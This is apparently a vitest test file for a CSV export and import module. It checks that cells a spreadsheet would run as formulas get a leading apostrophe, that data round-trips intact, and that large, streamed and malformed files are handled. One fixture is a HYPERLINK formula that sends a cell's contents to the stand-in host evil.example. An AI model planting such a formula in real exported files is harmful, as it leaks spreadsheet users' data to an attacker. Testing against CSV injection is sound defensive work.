import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvStream, neutraliseCell, readCell, readCsv, toCsv } from './csv';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const hostile = [HYPERLINK, '+91 98220 45678', '-2+3', '@SUM(A1:A9)', '\tTabbed', '\rReturned', "'=already quoted", "''-twice"];

/** The cells as a spreadsheet reads the file: no library of ours in between. */
const cellsOf = (csv: string) => parse(csv, { bom: true }) as string[][];

describe('CSV cells a spreadsheet would run as a formula', () => {
  it('are written with a leading apostrophe, every one of = + - @ tab and carriage return', () => {
    const [row] = cellsOf(toCsv([hostile]));
    expect(row).toEqual([
      `'${HYPERLINK}`,
      "'+91 98220 45678",
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\tTabbed",
      "'\rReturned",
      "''=already quoted",
      "'''-twice",
    ]);
    for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('leave plain numbers, dates and ordinary text as they are', () => {
    const safe = ['-1250.50', '+5', '-0.5', '42', '2026-04-01 01:30', 'Pune Tech Hub', "O'Brien", 'a=b', 'सायली देशपांडे', ''];
    expect(cellsOf(toCsv([safe]))[0]).toEqual(safe);
    expect(cellsOf(toCsv([[-1250.5, 0, null]]))[0]).toEqual(['-1250.5', '0', '']);
  });

  it('read back exactly as they were given, also from records by header', async () => {
    expect(hostile.map((v) => readCell(neutraliseCell(v)))).toEqual(hostile);
    const records = hostile.map((name, i) => ({ id: String(i), name }));
    const csv = toCsv(records, { header: true, columns: ['id', 'name'] });
    expect(csv.startsWith('\uFEFFid,name')).toBe(true);
    expect(await readCsv(csv, { columns: true }, { maxRecords: 100 })).toEqual({ records, more: false });
  });

  it('reads a cell a person typed with an apostrophe as the text after it, as a spreadsheet shows it', async () => {
    const { records } = await readCsv("name\n'=1+1\n'plain\n", { columns: true }, { maxRecords: 100 });
    expect(records).toEqual([{ name: '=1+1' }, { name: "'plain" }]);
  });

  it('are neutralised in a streamed download too', async () => {
    let text = '';
    for await (const chunk of csvStream([{ name: HYPERLINK }], { header: true, columns: ['name'] })) text += String(chunk);
    expect(cellsOf(text)).toEqual([['name'], [`'${HYPERLINK}`]]);
  });
});

describe('reading a large CSV', () => {
  const rows = (n: number) =>
    toCsv(
      Array.from({ length: n }, (_, i) => ({ sku: `SKU-${i}`, name: `सायली ${i} ✓ 😀` })),
      { header: true },
    );

  it('reads every record of a file of many slices, characters split between slices included', async () => {
    const csv = rows(20_000);
    expect(Buffer.byteLength(csv)).toBeGreaterThan(10 * 64 * 1024);
    const { records, more } = await readCsv<{ sku: string; name: string }>(csv, { columns: true }, { maxRecords: 20_000 });
    expect(more).toBe(false);
    expect(records).toHaveLength(20_000);
    expect(records[19_999]).toEqual({ sku: 'SKU-19999', name: 'सायली 19999 ✓ 😀' });
    expect(records.every((r, i) => r.name === `सायली ${i} ✓ 😀`)).toBe(true);
  });

  it('stops at the limit and says there was more, without reading the rest', async () => {
    const { records, more } = await readCsv(rows(50_000), { columns: true }, { maxRecords: 100 });
    expect(records).toHaveLength(100);
    expect(more).toBe(true);
  });

  it('gives the event loop back while it reads: a timer set before it runs before it ends', async () => {
    const order: string[] = [];
    setTimeout(() => order.push('timer'), 0);
    await readCsv(rows(40_000), { columns: true }, { maxRecords: 40_000 }).then(() => order.push('read'));
    expect(order).toEqual(['timer', 'read']);
  });

  it("answers an unreadable file with csv-parse's reason", async () => {
    await expect(readCsv('sku,name\n"A,unclosed\n', { columns: true }, { maxRecords: 10 })).rejects.toThrow(/Quote Not Closed/i);
  });
});
